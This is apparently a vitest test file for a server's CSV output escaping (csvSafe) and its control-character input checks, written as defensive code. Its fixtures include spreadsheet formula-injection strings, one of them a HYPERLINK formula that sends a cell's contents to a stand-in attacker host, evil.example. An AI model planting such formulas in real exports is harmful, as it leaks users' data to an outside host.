// Output and input rules of server/domain/csv.ts and server/domain/text.ts (docs/OPERATIONS.md
// "Input we refuse, output we neutralise").
import { describe, expect, test } from 'vitest';
import { csvCellValue, csvSafe } from '../../server/domain/csv.ts';
import { controlCharacterErrors, hasControlCharacter } from '../../server/domain/text.ts';

describe('csvSafe: a cell a spreadsheet would run as a formula is written as text (OWASP)', () => {
  test.each(['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '=HYPERLINK("http://evil.example/?"&A1,"Click")'])(
    '%j gets a leading apostrophe',
    (cell) => {
      expect(csvSafe(cell)).toBe(`'${cell}`);
    },
  );
  test('ordinary text is left alone, including a formula character further in', () => {
    expect(csvSafe('Japan 5 GB – 30 days')).toBe('Japan 5 GB – 30 days');
    expect(csvSafe('a=b')).toBe('a=b');
    expect(csvSafe('')).toBe('');
  });
  test('numbers and booleans cannot hold a formula: a negative number stays a number', () => {
    expect(csvSafe(-1024)).toBe(-1024);
    expect(csvSafe(true)).toBe(true);
    expect(csvSafe(null)).toBe(null);
  });
  test('reading back takes off the apostrophe csvSafe added, and only that one', () => {
    expect(csvCellValue(csvSafe('=1+1'))).toBe('=1+1');
    expect(csvCellValue("'quoted")).toBe("'quoted");
    expect(csvCellValue("'")).toBe("'");
  });
});

describe('control characters in input', () => {
  test('NUL, escape, DEL and the C1 controls are control characters', () => {
    for (const c of ['\u0000', '\u0007', '\u001b', '\u007f', '\u0085', '\u009f']) expect(hasControlCharacter(`a${c}b`)).toBe(true);
  });
  test('tab, line feed and carriage return are text (multi-line notes)', () => {
    expect(hasControlCharacter('line 1\r\n\tline 2')).toBe(false);
    expect(hasControlCharacter('Zoë – ½ €')).toBe(false);
  });
  test('each field holding one is named by its path, NUL said as such', () => {
    expect(controlCharacterErrors({ email: 'a\u0000b', nested: { list: ['ok', 'x\u001b'] }, n: 3 })).toEqual({
      email: 'must not contain NUL characters',
      'nested.list.1': 'must not contain control characters',
    });
  });
  test('a field name holding one is named with the character shown as ?', () => {
    expect(controlCharacterErrors({ 'a\u0000b': 'x' })).toEqual({ 'a?b': 'a field name must not contain control characters' });
  });
  test('a bare string is reported as _', () => {
    expect(controlCharacterErrors('\u0000')).toEqual({ _: 'must not contain NUL characters' });
  });
});
